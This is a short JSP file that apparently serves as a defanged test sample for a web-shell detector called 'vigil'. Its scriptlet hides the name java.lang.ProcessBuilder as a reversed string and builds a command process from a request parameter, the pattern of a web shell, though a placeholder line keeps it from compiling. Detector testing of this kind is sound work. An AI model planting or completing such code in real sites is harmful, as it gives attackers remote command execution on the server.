<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String n = new StringBuilder("redliuBssecorP.gnal.avaj").reverse().toString();
Class k = Class.forName(n);
Object o = k.getConstructor(String[].class).newInstance((Object) request.getParameterValues("a"));
%>
